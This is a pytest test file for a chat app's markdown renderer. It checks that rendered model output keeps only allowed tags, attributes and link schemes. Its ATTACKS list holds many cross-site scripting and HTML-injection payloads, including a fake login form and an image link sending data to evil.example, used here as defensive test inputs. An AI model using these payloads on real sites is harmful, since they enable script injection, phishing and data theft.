"""What a model writes is never more than text on our pages."""

from __future__ import annotations

import re
import sys
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from pygments.lexers.python import PythonLexer  # type: ignore[import-untyped]

from apps.chat.markdown import ATTRIBUTES, SCHEMES, TAGS, _cleaner, render
from tests.support.threads import together

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/steal?data=secret)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<div hx-get='/threads/' hx-trigger='load'>x</div>",
    "<div data-hx-post='/accounts/logout/' data-hx-trigger='load'>x</div>",
    "<hx-partial hx-target='body'>x</hx-partial>",
    "<template hx type='partial' hx-target='#composer'>x</template>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<a href='#' style='position:fixed;inset:0'>x</a>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "{{ settings.SECRET_KEY }} {% load static %}{% debug %}",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "[x](https://ok.example \"onmouseover='alert(1)'\")",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
]  # fmt: skip


class Found(HTMLParser):
    """Every element and attribute that a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_leaves_nothing_that_acts(attack: str) -> None:
    for tag, attributes in Found(render(attack)).elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", attributes.get("href") or "", re.IGNORECASE)
        assert scheme is None or scheme[1].lower() in SCHEMES


def test_it_makes_no_element_of_a_template_s_words() -> None:
    assert "{{ settings.SECRET_KEY }}" in render("{{ settings.SECRET_KEY }}")


def test_it_marks_links_as_not_ours() -> None:
    assert 'rel="nofollow noopener noreferrer"' in render("[docs](https://example.com)")


def test_it_keeps_what_answers_are_made_of() -> None:
    html = render(
        "# Title\n\n**bold** *em* ~~gone~~ `code`\n\n- one\n\n1. two\n\n> said\n\n| a | b |\n|---|--:|\n| 1 | 2 |"
    )

    for tag in ("h1", "strong", "em", "s", "code", "ul", "ol", "blockquote", "table"):
        assert f"<{tag}" in html
    assert '<td align="right">2</td>' in html


def test_it_colours_code_by_class_and_without_style() -> None:
    html = render("```python\ndef f():\n    return 'x'\n```")

    assert '<span class="k">def</span>' in html
    assert "style" not in html


@pytest.fixture
def busy_threads() -> Iterator[None]:
    """Threads take turns as often as they can."""
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    yield
    sys.setswitchinterval(interval)


def test_many_at_once_colour_their_first_code_alike(busy_threads: None) -> None:
    code = "```python\nrefund(f\"A-{1042:>6}\", '10 €', b'x', reason=\"late\")\n```"
    alone = render(code)

    seen = {alone}
    for _ in range(20):
        del PythonLexer._tokens  # as in a process that has not met the language
        assert not together(*[lambda: seen.add(render(code))] * 8)

    assert seen == {alone}


def test_html_is_shown_as_it_was_written() -> None:
    assert '&lt;span class="composer"&gt;' in render('<span class="composer">x</span>')


def test_the_sanitiser_alone_lets_no_class_of_ours_through() -> None:
    assert _cleaner.clean('<span class="composer kd visually-hidden">x</span>') == '<span class="kd">x</span>'
